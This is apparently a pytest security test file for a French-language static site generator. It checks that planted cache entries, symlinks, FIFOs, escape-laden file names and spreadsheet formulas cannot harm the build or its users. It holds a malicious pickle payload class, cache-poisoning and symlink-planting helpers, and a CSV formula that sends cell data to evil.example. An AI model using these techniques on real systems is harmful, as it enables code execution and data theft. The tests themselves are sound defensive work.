"""What content or a cache from a pull request may try against the build machine: code run
from the cache, writes through planted links, inputs that hang or crash the build."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import sqlite3
import subprocess
import threading
from pathlib import Path
from xml.etree import ElementTree

import jinja2.bccache
import pytest

from site_gen import cache_trust
from site_gen.build.pipeline import BuildOptions, build
from site_gen.cache import temporary_path
from site_gen.output import swap as write_swap
from site_gen.output.folder import lock_path, spare_path
from site_gen.output.manifest import manifest_paths

from .conftest import SAMPLE_CONTENT, VALID_ACTOR, run_cli, tree_snapshot


def contents(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


class Payload:
    """A pickle that, loaded, creates the file `marker`: what an attacker would commit."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def plant(cache: Path, marker: Path, seals: bool = False) -> int:
    """Replace every entry of the cache folder by one that would create `marker` when
    loaded, unsealed or sealed without the key (`seals`: the rows of the database keep
    their seals, as if they came from a cache of ours); returns how many were planted."""
    evil = pickle.dumps(Payload(marker), protocol=5)
    forged = bytes(cache_trust.MAC_SIZE) + evil  # a seal made without the key
    planted = 0
    for path in sorted(p for p in cache.rglob("*") if p.is_file()):
        if path.suffix in (".pickle", ".sealed"):
            path.write_bytes(forged if planted % 2 else evil)
            planted += 1
    templates = cache / "templates"
    templates.mkdir(exist_ok=True)
    for name in ("__jinja2_x.cache", "x.sealed"):  # jinja's own layout, and ours
        (templates / name).write_bytes(jinja2.bccache.bc_magic + evil)
    with sqlite3.connect(cache / "derived.sqlite") as database:
        tables = database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        for (table,) in tables.fetchall():  # the value changed, or its seal too
            planted += database.execute(f"UPDATE {table} SET value = ?", (evil,)).rowcount
            if not seals:
                database.execute(f"UPDATE {table} SET seal = ?", (bytes(48),))
    return planted


def test_a_planted_cache_entry_never_runs(tmp_path):
    content, output, marker = tmp_path / "content", tmp_path / "out", tmp_path / "PWNED"
    shutil.copytree(SAMPLE_CONTENT, content)
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    clean = contents(output)
    assert plant(tmp_path / ".cache", marker) > 50
    for command in (("check",), ("--output", output)):
        result = run_cli(*command, "--content", content, cwd=tmp_path)
        assert result.status == 0, result.stderr
        assert not marker.exists(), command
    assert contents(output) == clean
    # values changed under seals of ours: refused as they are read, and made again
    plant(tmp_path / ".cache", marker, seals=True)
    (content / "site.yaml").write_text((content / "site.yaml").read_text() + "\n")
    result = run_cli("--content", content, "--output", output, cwd=tmp_path)
    assert result.status in (0, 1) and not marker.exists(), result.stderr
    if result.status == 1:
        assert result.stderr == "erreur : le cache a changé pendant la fabrication : relancez-la\n"
        assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    assert contents(output) == clean
    # a quick rebuild after an edit, over a cache planted again
    plant(tmp_path / ".cache", marker)
    actor = content / "actors" / "passages.yaml"
    actor.write_text(actor.read_text().replace("summary: ", "summary: Revu. "))
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    assert not marker.exists()
    assert "Revu." in (output / "acteurs" / "passages" / "index.html").read_text()


def test_the_cache_key_is_made_once_outside_the_repository(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user"))
    monkeypatch.delenv(cache_trust.KEY_VARIABLE, raising=False)
    cache_trust.key.cache_clear()
    try:
        first = cache_trust.key()
        path = tmp_path / "user" / "site_gen" / "cache.key"
        assert path.read_bytes() == first and path.stat().st_mode & 0o777 == 0o600
        cache_trust.key.cache_clear()
        assert cache_trust.key() == first  # read back, not made again
        sealed = cache_trust.seal("pages/a", b"data")
        assert bytes(cache_trust.unseal("pages/a", sealed)) == b"data"
        assert cache_trust.unseal("pages/b", sealed) is None  # moved to another place
        monkeypatch.setenv(cache_trust.KEY_VARIABLE, "secret of the CI")
        cache_trust.key.cache_clear()
        assert cache_trust.unseal("pages/a", sealed) is None  # another key
    finally:
        cache_trust.key.cache_clear()


def git(folder: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
        cwd=folder,
        check=True,
        capture_output=True,
    )


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_cache_folder_tracked_by_git_is_refused(tmp_path):
    content, output = tmp_path / "content", tmp_path / "out"
    shutil.copytree(SAMPLE_CONTENT, content)
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    before = tree_snapshot(output)
    git(tmp_path, "init", "-q")
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    git(tmp_path, "add", "-f", ".cache/builds.json")
    git(tmp_path, "commit", "-q", "-m", "a pull request")
    for command in (("check",), ("--output", output)):
        result = run_cli(*command, "--content", content, cwd=tmp_path)
        assert result.status == 2, result.stdout
        assert result.stderr == (
            "erreur : le dossier de cache .cache n'est pas utilisé : git y suit 1 fichier(s) "
            "(.cache/builds.json…), il vient donc du dépôt et non d'une fabrication précédente. "
            "Retirez-le de git : git rm -r --cached .cache, et gardez .cache/ dans "
            ".gitignore.\n"
        )
    assert tree_snapshot(output) == before
    git(tmp_path, "rm", "-q", "-r", "--cached", ".cache")
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    assert os.path.isdir(tmp_path / ".cache")


# --- links planted beside the output and in the cache are never followed ----------------


def sibling_paths(output: Path, cache: Path) -> tuple[list[Path], list[Path]]:
    """Every name beside the output folder and in the cache that a build of this process
    (and thread) makes, locks or renames to: (files, folders)."""
    name, pid = output.name, os.getpid()
    live, spare = manifest_paths(output)
    files = [lock_path(output), live, spare]
    files += [m.with_name(f"{m.name}.{pid}.tmp") for m in (live, spare)]
    files += [cache / "builds.json", cache / f"builds.{pid}.{threading.get_ident()}.tmp"]
    files += [cache / f"derived.sqlite{suffix}" for suffix in ("", "-wal", "-shm")]
    for entry in sorted(p for p in cache.rglob("*") if p.is_file() and p.suffix != ".tmp"):
        files += [entry, temporary_path(entry)]
    folders = [spare_path(output), output.with_name(f".{name}.{pid}.old")]
    folders += [p for p in cache.iterdir() if p.is_dir()]
    return files, folders


def plant_links(files: list[Path], folders: list[Path], victim: Path) -> None:
    for path in files:
        if path.exists() or path.is_symlink():
            os.unlink(path)
        path.symlink_to(victim / "file")
    for path in folders:
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.is_symlink():
            path.unlink()
        path.symlink_to(victim / "folder", target_is_directory=True)


def test_a_link_planted_at_any_path_beside_the_output_is_never_followed(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    content, output, cache = tmp_path / "content", tmp_path / "out", tmp_path / ".cache"
    shutil.copytree(SAMPLE_CONTENT, content)
    victim = tmp_path / "victim"
    (victim / "folder").mkdir(parents=True)
    (victim / "file").write_bytes(b"precious")
    before = tree_snapshot(victim)
    options = BuildOptions(content, output, cache_dir=cache, workers=1)
    cache.mkdir()
    plant_links(*sibling_paths(output, cache), victim)  # committed before the first build
    build(options)
    clean = contents(output)
    monkeypatch.setattr(write_swap, "exchange", lambda first, second: False)  # the renames
    actor = content / "actors" / "passages.yaml"
    for rebuild in ("Revu. ", "Relu. ", ""):
        plant_links(*sibling_paths(output, cache), victim)
        actor.write_text(actor.read_text().replace("summary: ", f"summary: {rebuild}"))
        build(options)
        assert tree_snapshot(victim) == before, rebuild
        assert not spare_path(output).is_symlink() and not lock_path(output).is_symlink()
    monkeypatch.undo()
    shutil.copy(SAMPLE_CONTENT / "actors" / "passages.yaml", actor)
    build(options)
    assert contents(output) == clean
    assert tree_snapshot(victim) == before


# --- inputs that crashed with a traceback -----------------------------------------------


def builds(content: Path, output: Path, cwd: Path) -> list:
    """check, then a build, as a user runs them."""
    return [
        run_cli("check", "--content", content, cwd=cwd),
        run_cli("--content", content, "--output", output, cwd=cwd),
    ]


def test_a_noncharacter_entity_in_markdown_is_rendered_not_a_crash(make_site, tmp_path):
    about = "about: |\n  Un &#xFFFE; et un &#xFFFF; dans **le texte**.\n"
    content = make_site({"a.yaml": VALID_ACTOR + about})
    output = tmp_path / "out"
    for result in builds(content, output, tmp_path):
        assert result.status == 0, result.stderr
    page = (output / "acteurs" / "exemple" / "index.html").read_text()
    assert "Un \ufffd et un \ufffd dans <strong>le texte</strong>." in page
    # in an edit too (a quick rebuild), in another Markdown field
    service = "services:\n  - title: Atelier\n    description: Avec &#xFFFE;.\n"
    (content / "actors" / "a.yaml").write_text(VALID_ACTOR + about + service)
    result = run_cli("--content", content, "--output", output, cwd=tmp_path)
    assert result.status == 0, result.stderr
    assert "Avec \ufffd." in (output / "acteurs" / "exemple" / "index.html").read_text()


def test_a_file_name_that_is_not_utf8_is_reported(make_site, tmp_path):
    content = make_site({"a.yaml": VALID_ACTOR})
    output = tmp_path / "out"
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    before = tree_snapshot(output)
    name = os.fsdecode(b"caf\xe9.yaml")  # Latin-1, as git may commit it
    (content / "actors" / name).write_text(VALID_ACTOR.replace("id: 1", "id: 2"))
    for result in builds(content, output, tmp_path):
        assert result.status == 1
        assert result.stderr.startswith(
            "content/actors/caf\\xe9.yaml: le nom du fichier n'est pas du texte UTF-8\n"
            "    conseil : Renommez le fichier avec des lettres, des chiffres et des tirets, "
            "par exemple nom-de-l-acteur.yaml (git mv ANCIEN NOUVEAU).\n"
        ), result.stderr
    assert tree_snapshot(output) == before


def test_a_file_name_cannot_write_to_the_terminal(make_site, tmp_path):
    content = make_site({"a.yaml": VALID_ACTOR, "b\n\x1b[2Jc.yaml": "id: x\n"})
    result = run_cli("check", "--content", content, cwd=tmp_path)
    assert result.status == 1
    assert "\x1b" not in result.stderr and "content/actors/b\\x0a\\x1b[2Jc.yaml:1:" in (
        result.stderr
    )


# --- odd leftovers ------------------------------------------------------------------------


def test_emacs_auto_save_and_lock_files_are_ignored(make_site, tmp_path):
    content = make_site({"a.yaml": VALID_ACTOR, "#a.yaml#": "id: [half\n"})
    os.symlink("user@host.4242:1700000000", content / "actors" / ".#a.yaml")  # dangling
    for result in builds(content, tmp_path / "out", tmp_path):
        assert result.status == 0, result.stderr


def test_an_empty_folder_among_actor_files_gets_the_same_answer_after_a_build(make_site, tmp_path):
    content = make_site({"a.yaml": VALID_ACTOR})
    output = tmp_path / "out"
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    (content / "actors" / "x.yaml").mkdir()
    for result in builds(content, output, tmp_path):  # the build, not the shortcut
        assert result.status == 1
        assert "content/actors/x.yaml: ce n'est pas une fiche d'acteur\n" in result.stderr


# --- inputs that hang, or pass check and break the site ----------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_a_fifo_among_the_actor_files_is_reported_not_read(make_site, tmp_path):
    content = make_site({"a.yaml": VALID_ACTOR})
    os.mkfifo(content / "actors" / "b.yaml")  # reading it would wait for a writer forever
    for result in builds(content, tmp_path / "out", tmp_path):
        assert result.status == 1
        assert result.stderr.startswith(
            "content/actors/b.yaml: ce n'est pas un fichier ordinaire "
            "(un tube, un périphérique ou une socket)\n"
        ), result.stderr


def test_every_text_of_the_feed_is_well_formed_xml(make_site, tmp_path):
    site = 'title: "Annuaire \\x07 \\uFFFE"\nbase_url: https://example.org/\n'
    content = make_site({"a.yaml": VALID_ACTOR}, site_yaml=site)
    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
    if result.status == 0:  # a setting no check refuses: the feed is still well-formed
        feed = ElementTree.parse(tmp_path / "out" / "flux.xml").getroot()
        assert feed.find("{http://www.w3.org/2005/Atom}title").text.startswith("Annuaire")


# --- messages that pointed the wrong way -------------------------------------------------


def test_a_decomposed_accent_is_the_same_word(make_site, tmp_path):
    decomposed = "I\u0302le-de-France"  # I + combining circumflex, as some keyboards type it
    actor = VALID_ACTOR.replace("[Occitanie]", f"[{decomposed}]")
    content = make_site({"a.yaml": actor})
    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
    assert result.status == 0, result.stderr
    assert (tmp_path / "out" / "territoires" / "ile-de-france" / "index.html").exists()


def test_many_aliases_of_one_file_get_one_message(make_site, tmp_path):
    aliases = "services:\n" + "  - title: *n\n" * 90
    content = make_site({"a.yaml": VALID_ACTOR.replace("name: ", "name: &n ") + aliases})
    result = run_cli("check", "--content", content, cwd=tmp_path)
    assert result.status == 1
    assert result.stderr.count("alias YAML") == 1, result.stderr
    assert (
        "content/actors/a.yaml:7: les alias YAML (*nom) ne sont pas permis : 90 dans ce fichier "
        "(lignes 7, 8, 9, 10, 11, …)\n"
    ) in result.stderr


def test_inline_code_that_looks_like_a_tag_is_text_not_a_link(make_site, tmp_path):
    about = 'about: |\n  Collez `<img src="/widget.png">` et `<a href="/x/">` dans votre page.\n'
    content = make_site({"a.yaml": VALID_ACTOR + about})
    result = run_cli("--content", content, "--output", tmp_path / "out", cwd=tmp_path)
    assert result.status == 0, result.stderr
    page = (tmp_path / "out" / "acteurs" / "exemple" / "index.html").read_text()
    assert "<code>&lt;img src=&quot;/widget.png&quot;&gt;</code>" in page


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(make_site, tmp_path):
    formula = '=HYPERLINK("https://evil.example/?"&A1, "Cliquez")'
    actor = VALID_ACTOR.replace("summary: Un acteur valide.", f"summary: '{formula}'")
    actor += "clients:\n  - '+33 1 23 45 67 89'\n  - '@Ville'\n"
    content = make_site({"a.yaml": actor})
    output = tmp_path / "out"
    assert run_cli("--content", content, "--output", output, cwd=tmp_path).status == 0
    rows = list(
        csv.DictReader(io.StringIO((output / "donnees" / "acteurs.csv").read_text("utf-8-sig")))
    )
    assert rows[0]["summary"] == "'" + formula
    assert rows[0]["clients"].startswith("'+33")
    record = json.loads((output / "donnees" / "acteurs.json").read_text())[0]
    assert record["summary"] == formula  # the JSON stays exact
    assert "pour qu’aucun tableur ne" in (output / "donnees" / "index.html").read_text()
